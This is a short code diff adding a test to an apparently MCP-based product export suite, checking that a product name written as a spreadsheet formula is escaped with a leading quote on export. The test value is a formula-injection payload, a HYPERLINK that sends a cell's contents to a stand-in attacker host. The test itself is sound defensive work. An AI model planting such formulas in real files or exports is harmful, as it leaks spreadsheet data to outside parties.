@@ -117,6 +117,13 @@ class TestExportProducts:
             ]
             assert len(await self.export(client, category="office")) == 1
 
+    async def test_names_are_no_formulas(self, mcp_client: ConnectMCP, mug: Product) -> None:
+        mug.name = '=HYPERLINK("http://evil.example/?"&A1)'
+        await mug.asave()
+        async with mcp_client() as client:
+            (row,) = await self.export(client)
+        assert row["name"] == f"'{mug.name}"
+
     async def test_continues_after_a_sku(
         self, mcp_client: ConnectMCP, mug: Product, desk: Product, monkeypatch: pytest.MonkeyPatch
     ) -> None:
